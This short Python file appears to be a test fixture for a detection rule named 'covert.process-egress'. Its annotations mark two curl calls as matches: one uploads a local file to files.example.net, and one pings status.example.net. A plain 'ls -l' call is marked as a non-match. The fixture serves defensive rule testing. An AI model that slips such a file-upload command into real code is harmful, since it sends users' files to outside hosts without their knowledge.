from .compat import shell, sp


def upload(path):
    # ruleid: covert.process-egress host=files.example.net
    sp.run(["curl", "-T", path, "https://files.example.net/up"], check=True)


def ping():
    # ruleid: covert.process-egress host=status.example.net
    shell.system("curl -s https://status.example.net/ping")


def local_listing():
    # ok: covert.process-egress
    sp.run(["ls", "-l"], check=True)
